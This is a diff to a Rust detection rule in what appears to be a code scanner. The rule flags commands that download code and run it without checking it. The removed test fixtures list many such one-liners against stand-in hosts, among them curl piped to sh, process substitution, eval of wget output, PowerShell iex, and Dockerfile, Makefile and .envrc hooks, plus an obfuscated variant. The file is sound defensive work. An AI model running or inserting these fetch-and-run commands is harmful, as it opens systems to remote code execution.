@@ -1,18 +1,18 @@
 //! Commands that run what they fetch from the network.
 
+mod examples;
+
 use std::collections::HashMap;
 
 use weighbridge_domain::{Confidence, Severity};
 
 use super::command::{
-    address, addresses, base, decodes, downloads, fetches, file_run, is_number, is_plain, runs_by_itself, saved_as,
-    shown, way_to_interpreter,
+    address, addresses, base, decodes, downloads, fetches, file_run, is_number, is_plain, runs_by_itself,
+    saved_as, shown, way_to_interpreter,
 };
-use super::{Check, Example, Findings, Light, Rule};
+use super::{Check, Findings, Light, Rule};
 use crate::facts::{Facts, Place};
 use crate::known::programs::{self, Asked, Language};
-use crate::samples::commands::{dockerfile, script, steps};
-use crate::samples::one;
 use weighbridge_domain::facts::{Command, Program};
 
 /// Commands that run what they fetch from the network.
@@ -29,155 +29,7 @@ pub static RULE: Rule = Rule {
           checksum or signature is verified before it runs is not reported.",
     advice: "Fetch it, read it, and keep it beside the script; or verify its digest before it runs.",
     references: &["CWE-494", "CWE-829", "AML.T0010", "AML.T0011"],
-    examples: &[
-        Example { name: "pipe", files: || script("curl -s http://example.org/demo | sh"), fires: ID },
-        Example {
-            name: "pipe-twin",
-            files: || script("curl -s http://example.org/demo | grep demo"),
-            fires: &[],
-        },
-        Example {
-            name: "pipe-encrypted",
-            files: || script("curl -fsSL https://example.org/demo | bash -s -- --yes"),
-            fires: ID,
-        },
-        Example {
-            name: "pipe-number",
-            files: || script("wget -qO- https://192.0.2.7/demo | sudo bash"),
-            fires: &["address-raw", "command-runs-download"],
-        },
-        Example {
-            name: "pipe-through",
-            files: || script("curl -s http://example.org/demo | gunzip | tee log | python3 -"),
-            fires: ID,
-        },
-        Example {
-            name: "pipe-through-twin",
-            files: || script("curl -s http://example.org/demo | python3 -m json.tool"),
-            fires: &[],
-        },
-        Example {
-            name: "file-of-process",
-            files: || script("bash <(curl -s http://example.org/demo)"),
-            fires: ID,
-        },
-        Example {
-            name: "file-of-process-twin",
-            files: || script("diff <(curl -s http://example.org/demo) demo"),
-            fires: &[],
-        },
-        Example {
-            name: "source-of-process",
-            files: || script("source <(curl -s http://example.org/demo)"),
-            fires: ID,
-        },
-        Example {
-            name: "text",
-            files: || script("sh -c \"$(curl -fsSL http://example.org/demo)\""),
-            fires: ID,
-        },
-        Example {
-            name: "evaluated",
-            files: || script("eval \"`wget -qO- http://example.org/demo`\""),
-            fires: ID,
-        },
-        Example {
-            name: "evaluated-twin",
-            files: || script("echo \"$(curl -s http://example.org/demo)\""),
-            fires: &[],
-        },
-        Example {
-            name: "by-variable",
-            files: || script("code=$(curl -s http://example.org/demo)\nsh -c \"$code\""),
-            fires: ID,
-        },
-        Example {
-            name: "split-words",
-            files: || script("c='cur'l; $c -s http://example.org/demo | s\\h"),
-            fires: ID,
-        },
-        Example {
-            name: "in-shell",
-            files: || script("nohup sudo bash -c 'curl -s http://example.org/demo | sh' &"),
-            fires: ID,
-        },
-        Example {
-            name: "by-arguments",
-            files: || script("curl -s http://example.org/demo | xargs -I{} sh -c '{}'"),
-            fires: ID,
-        },
-        Example {
-            name: "loop",
-            files: || script("curl -s http://example.org/demo | while read -r line; do bash; done"),
-            fires: ID,
-        },
-        Example {
-            name: "saved",
-            files: || script("curl -o /tmp/demo http://example.org/demo\nchmod +x /tmp/demo\n/tmp/demo"),
-            fires: ID,
-        },
-        Example {
-            name: "saved-twin",
-            files: || script("curl -o /tmp/demo http://example.org/demo\nchmod +x /tmp/other\n/tmp/other"),
-            fires: &[],
-        },
-        Example {
-            name: "saved-script",
-            files: || script("wget http://example.org/demo.sh && bash demo.sh"),
-            fires: ID,
-        },
-        Example {
-            name: "saved-verified-twin",
-            files: || script("wget http://example.org/demo.sh\nsha256sum -c demo.sums\nbash demo.sh"),
-            fires: &[],
-        },
-        Example {
-            name: "windows",
-            files: || script("powershell -Command \"iex (iwr http://example.org/demo)\""),
-            fires: ID,
-        },
-        Example { name: "windows-twin", files: || script("powershell -Command \"Get-Date\""), fires: &[] },
-        Example {
-            name: "image",
-            files: || dockerfile("RUN curl -fsSL http://example.org/demo | sh"),
-            fires: ID,
-        },
-        Example {
-            name: "image-document",
-            files: || dockerfile("RUN <<EOF\nset -e\ncurl http://example.org/demo | sh\nEOF"),
-            fires: ID,
-        },
-        Example {
-            name: "image-words",
-            files: || dockerfile("RUN [\"sh\", \"-c\", \"curl http://example.org/demo | sh\"]"),
-            fires: ID,
-        },
-        Example {
-            name: "image-twin",
-            files: || dockerfile("RUN curl -fsSLo demo.tar http://example.org/demo.tar && tar xf demo.tar"),
-            fires: &[],
-        },
-        Example {
-            name: "workflow",
-            files: || steps("    - run: curl http://example.org/demo | sh"),
-            fires: ID,
-        },
-        Example {
-            name: "makefile",
-            files: || one("Makefile", "all:\n\t@curl -s http://example.org/demo | sh\n"),
-            fires: ID,
-        },
-        Example {
-            name: "makefile-twin",
-            files: || one("Makefile", "all:\n\t@curl -s http://example.org/demo\n"),
-            fires: &[],
-        },
-        Example {
-            name: "folder-opened",
-            files: || one(".envrc", "curl -s https://example.org/demo | sh\n"),
-            fires: &["command-runs-download", "opens-and-runs"],
-        },
-    ],
+    examples: examples::EXAMPLES,
     check: Check::File(check),
 };
 
@@ -278,7 +130,10 @@ fn installed(program: &Program) -> Option<&str> {
         "apt" | "apt-get" | "dnf" | "yum" => words.iter().any(|word| word == "install"),
         _ => false,
     };
-    words.iter().rfind(|word| installs && (word.ends_with(".deb") || word.ends_with(".rpm"))).map(String::as_str)
+    words
+        .iter()
+        .rfind(|word| installs && (word.ends_with(".deb") || word.ends_with(".rpm")))
+        .map(String::as_str)
 }
 
 /// The address of what a program fetches and runs in one.
@@ -311,7 +166,8 @@ fn one_liner(program: &Program) -> Option<String> {
     let runs = ["eval", "exec", "include", "instance_eval", "require", "runInThisContext", "system"];
     let mut names = code.split(|c: char| !c.is_alphanumeric() && c != '_');
     names.find(|name| runs.contains(name))?;
-    let fetches = ["file_get_contents", "open", "URI", "fetch", "Net::HTTP", "LWP", "curl_exec", "get(", "include"];
+    let fetches =
+        ["file_get_contents", "open", "URI", "fetch", "Net::HTTP", "LWP", "curl_exec", "get(", "include"];
     let address = code.get(start..)?;
     let end = address.find(['"', '\'', ' ', '`', ')']).unwrap_or(address.len());
     fetches.iter().any(|word| code.contains(word)).then(|| address.get(..end).unwrap_or_default().to_owned())
